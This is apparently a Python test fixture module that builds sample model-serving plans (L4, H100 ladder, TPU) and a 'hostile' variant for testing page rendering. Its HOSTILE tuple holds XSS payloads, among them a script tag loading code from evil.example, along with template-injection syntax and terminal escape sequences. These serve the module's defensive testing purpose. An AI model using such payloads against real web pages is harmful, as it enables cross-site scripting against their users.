"""Plans written by hand, for pages: a simple one, one with a ladder, a TPU, and one whose every text is hostile."""

from __future__ import annotations

import dataclasses
from typing import Any

from infra.plan.access import Access
from infra.plan.credentials import Credentials
from infra.plan.quantities import Cost, Host, Memory, MemoryTerm, TimeTerm, Timing
from infra.plan.serving_plan import (
    AcceleratorChoice,
    Context,
    Decision,
    FrameworkChoice,
    ModelChoice,
    Parallelism,
    Rollout,
    Rung,
    ServingPlan,
)
from infra.plan.weights_source import WeightsChoice

CURVE = ((1, 131_072), (2, 131_072), (4, 109_056), (8, 54_272), (16, 27_136), (32, 13_568), (64, 6784))
LADDER_CURVE = ((1, 262_144), (2, 262_144), (4, 262_144), (8, 203_776), (16, 101_888), (32, 50_944), (64, 25_472))
HOSTILE = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=1">',
    "</title></svg></style><script src=//evil.example/x.js></script>",
    "$\\frac{1}{2}$ {{ 7*7 }} {% raw %}",
    "a\x00b\x1b[2J\u202eright to left",
    "x" * 200,
)


def simple() -> ServingPlan:
    """One L4, one replica, one rung with a known price."""
    memory = Memory(
        per_accelerator_gib=22.03,
        weights_gib=9.52,
        kv_cache_per_request_gib=0.61,
        kv_cache_gib=8.33,
        overhead_gib=1.98,
        uncertainty_gib=0.41,
        headroom_gib=2.2,
        need_gib=16.79,
        have_gib=20.24,
        max_concurrent_requests=13,
        max_context_tokens=54_272,
        utilization=0.92,
        kv_cache_dtype="auto",
        terms=(
            MemoryTerm("weights", "language model, bfloat16", 8.61, 0.0, "parameters of the checkpoint"),
            MemoryTerm("weights", "vision tower", 0.91, 0.01, "parameters of the checkpoint"),
            MemoryTerm("kv", "8 requests of 32,768 tokens", 4.88, 0.0, "vLLM's own rule of blocks"),
            MemoryTerm("overhead", "activations of one step", 1.1, 0.2, "shapes of the widest layer"),
            MemoryTerm("overhead", "CUDA graphs and context", 0.88, 0.2, "measured on an L4"),
        ),
    )
    plan = ServingPlan(
        stack="gemma4-e4b-l4",
        platform="dev",
        model=ModelChoice(
            "gemma-4-e4b-it",
            "google/gemma-4-E4B-it",
            "4f1c0e1a9f0d7a5b",
            "safetensors",
            None,
            None,
            "apache-2.0",
            False,
        ),
        framework=FrameworkChoice("vllm", "0.32.0", "vllm/vllm-openai:v0.32.0"),
        precision="bf16",
        inputs=("text", "image"),
        tools=True,
        reasoning=True,
        accelerator=AcceleratorChoice(
            type="l4",
            kind="gpu",
            count=1,
            nodes=1,
            machine_type="g2-standard-8",
            capacity="on-demand",
            reservation=None,
            gke_label="nvidia-l4",
            resource="nvidia.com/gpu",
            zones=("us-central1-a", "us-central1-b"),
        ),
        parallelism=Parallelism(1, 1, 1),
        context=Context(max_model_len=32_768, max_num_batched_tokens=4096, concurrency=8),
        memory=memory,
        host=Host(6, 24, 11.2, 60, "pd-balanced", 120, 0),
        timing=_timing(1),
        cost=Cost(
            hourly_usd=0.8536,
            monthly_usd_min=623.13,
            monthly_usd_max=623.13,
            exact=True,
            basis="on-demand list price of us-central1",
            usd_per_million_output_tokens=0.2712,
            tokens_basis="measured at full load",
        ),
        unified_slots=False,
        settings=(),
        min_replicas=1,
        replicas=1,
        ladder=(),
        rollout=Rollout("surge", "RollingUpdate", 1, 0, 1, "none: a new pod answers first", 0, 10, 700, 310, 700),
        access=Access("key", "gemma4-e4b-l4-keys", "no path answers without a key", "caddy:2.11.7-alpine", ()),
        credentials=Credentials("", "", ""),
        weights=WeightsChoice("hugging-face", "/cache/weights/model", "", "", ()),
        engine_args=("--model=google/gemma-4-E4B-it", "--max-model-len=32768", "--gpu-memory-utilization=0.92"),
        adapters=(),
        media_domains=(),
        labels=(("team", "search"),),
        decisions=(
            Decision("precision", "bf16", "derived", "default of vLLM"),
            Decision("context.maxModelLen", "32768", "stack", "said in the stack file"),
            Decision("accelerator.machineType", "g2-standard-8", "derived", "cheapest machine with enough host memory"),
            Decision("accelerator.zones", "us-central1-a", "platform", "zones that offer it"),
            Decision("cost.hourlyUsd", "0.8536", "catalogue", "on-demand list price of us-central1"),
        ),
        cautions=(),
        only_planned=(),
    )
    return dataclasses.replace(plan, ladder=(rung(plan, "on-demand", 0.8536),))


def _timing(machines: int) -> Timing:
    terms = (
        TimeTerm("machine starts", 95.0 * machines, "Compute Engine, median seen"),
        TimeTerm("driver and node ready", 70.0, "GKE, median seen"),
        TimeTerm("image pulled", 148.0, "9.2 GB at 65 MB/s, streaming off"),
        TimeTerm("weights downloaded", 122.0 * machines, "from the hub at 75 MB/s"),
        TimeTerm("weights loaded", 38.0, "disk reads at 0.24 GB/s"),
        TimeTerm("engine starts", 64.0, "profiling and CUDA graphs"),
    )
    total = round(sum(term.seconds for term in terms))
    return Timing(
        weights_bytes=10_220_000_000,
        startup_seconds=total,
        restart_seconds=224,
        timeout_seconds=1080 * machines,
        pre_stop_seconds=15,
        drain_seconds=120,
        grace_seconds=150,
        notice_seconds=None,
        startup_terms=terms,
        stop_terms=(
            TimeTerm("leaves load balancing", 15.0, "the load balancer's own interval"),
            TimeTerm("running answers end", 120.0, "longest answer at full load"),
            TimeTerm("process ends", 15.0, "measured"),
        ),
    )


def rung(plan: ServingPlan, capacity: str, hourly_usd: float | None, *, exact: bool = True, **changes: Any) -> Rung:
    """One rung of `plan` bought as `capacity` at `hourly_usd`; months are 730 hours."""
    monthly = None if hourly_usd is None else hourly_usd * 730
    rung = Rung(
        capacity=capacity,
        reservation=None,
        machine_type=plan.accelerator.machine_type,
        count=plan.accelerator.count,
        nodes=1,
        parallelism=plan.parallelism,
        precision=plan.precision,
        checkpoint=plan.model.checkpoint,
        context=plan.context,
        need_gib=plan.memory.need_gib,
        have_gib=plan.memory.have_gib,
        drain_seconds=plan.timing.drain_seconds,
        hourly_usd=hourly_usd,
        monthly_usd_min=monthly,
        monthly_usd_max=monthly,
        exact=exact,
        max_concurrent_requests=1,
        loses=(),
    )
    return dataclasses.replace(rung, **changes)


def ladder() -> ServingPlan:
    """Two H100 of a reservation, then spot at an unknown price, then on-demand at most so much."""
    base = simple()
    plan = dataclasses.replace(
        base,
        stack="gemma4-31b-h100",
        model=dataclasses.replace(base.model, id="gemma-4-31b-it", checkpoint="google/gemma-4-31B-it"),
        accelerator=dataclasses.replace(
            base.accelerator,
            type="h100",
            count=2,
            nodes=1,
            machine_type="a3-highgpu-2g",
            capacity="reservation",
            reservation="research-h100",
            gke_label="nvidia-h100-80gb",
        ),
        parallelism=Parallelism(2, 1, 1),
        context=Context(131_072, 8192, 8),
        memory=dataclasses.replace(
            base.memory,
            per_accelerator_gib=79.11,
            weights_gib=29.4,
            kv_cache_per_request_gib=2.75,
            kv_cache_gib=34.9,
            overhead_gib=5.3,
            uncertainty_gib=1.6,
            headroom_gib=9.51,
            need_gib=58.3,
            have_gib=71.2,
            max_concurrent_requests=12,
            max_context_tokens=203_776,
            utilization=0.9,
            terms=(
                MemoryTerm("weights", "language model, half of it", 28.9, 0.0, "parameters of the checkpoint"),
                MemoryTerm("weights", "vision tower, on every accelerator", 0.5, 0.1, "parameters of the checkpoint"),
                MemoryTerm("kv", "8 requests of 131,072 tokens", 22.0, 0.0, "vLLM's own rule of blocks"),
                MemoryTerm("overhead", "activations of one step", 3.1, 0.9, "shapes of the widest layer"),
                MemoryTerm("overhead", "CUDA graphs, NCCL, context", 2.2, 0.6, "measured on an H100"),
            ),
        ),
        timing=dataclasses.replace(_timing(2), notice_seconds=30),
        cost=Cost(22.12, 8073.8, 32_295.2, True, "one-year commitment, list price", None, "no throughput measured"),
        unified_slots=False,
        settings=(),
        min_replicas=1,
        replicas=2,
    )
    return dataclasses.replace(
        plan,
        ladder=(
            rung(plan, "reservation", 22.12, monthly_usd_min=8073.8, reservation="research-h100"),
            rung(plan, "spot", None, drain_seconds=25, loses=("answers longer than 25 s are cut",)),
            rung(
                plan,
                "on-demand",
                44.24,
                exact=False,
                monthly_usd_min=16_147.6,
                machine_type="a3-highgpu-8g",
                count=4,
                nodes=1,
                precision="fp8",
                max_concurrent_requests=1,
                loses=("a machine of eight accelerators", "precision fp8 instead of bf16"),
            ),
        ),
    )


def tpu() -> ServingPlan:
    """Four chips of a TPU that this version only plans."""
    base = simple()
    plan = dataclasses.replace(
        base,
        stack="gemma4-26b-a4b-v6e",
        model=dataclasses.replace(base.model, id="gemma-4-26b-a4b-it", checkpoint="google/gemma-4-26B-A4B-it"),
        accelerator=dataclasses.replace(
            base.accelerator,
            type="v6e",
            kind="tpu",
            count=4,
            nodes=1,
            machine_type="ct6e-standard-4t",
            capacity="flex-start",
            gke_label="tpu-v6e-slice",
            resource="google.com/tpu",
            zones=("us-east5-b",),
        ),
        parallelism=Parallelism(4, 1, 1),
        memory=dataclasses.replace(
            base.memory,
            per_accelerator_gib=31.25,
            weights_gib=12.6,
            kv_cache_per_request_gib=0.9,
            kv_cache_gib=13.0,
            overhead_gib=2.4,
            uncertainty_gib=1.1,
            headroom_gib=3.25,
            need_gib=23.3,
            have_gib=29.1,
            terms=(
                MemoryTerm("weights", "language model, a quarter of it", 12.6, 0.4, "parameters of the checkpoint"),
                MemoryTerm("kv", "8 requests of 32,768 tokens", 7.2, 0.0, "vLLM's own rule of blocks"),
                MemoryTerm("overhead", "compiled programs and buffers", 2.4, 0.7, "measured on a v6e"),
            ),
        ),
        cost=Cost(None, None, None, False, "no price known for flex-start of ct6e-standard-4t", None, "no price"),
        cautions=(),
        only_planned=("TPU slices over several machines",),
    )
    return dataclasses.replace(plan, ladder=(rung(plan, "flex-start", None),))


def hostile(plan: ServingPlan | None = None, first: int = 0) -> ServingPlan:
    """A plan (that with a ladder), every text replaced by one that wants to be markup, script or terminal control.

    Args:
        plan: to be spoilt.
        first: place in `HOSTILE` of the first text; over all places each text of the plan is each of the hostile ones.
    """
    texts = iter((HOSTILE[first:] + HOSTILE[:first]) * 40)
    return _replace_texts(plan or ladder(), texts)


def _replace_texts(value: Any, texts: Any) -> Any:
    if isinstance(value, str):
        return next(texts)
    if isinstance(value, tuple):
        return tuple(_replace_texts(item, texts) for item in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        fields = dataclasses.fields(value)
        return dataclasses.replace(
            value, **{field.name: _replace_texts(getattr(value, field.name), texts) for field in fields}
        )
    return value
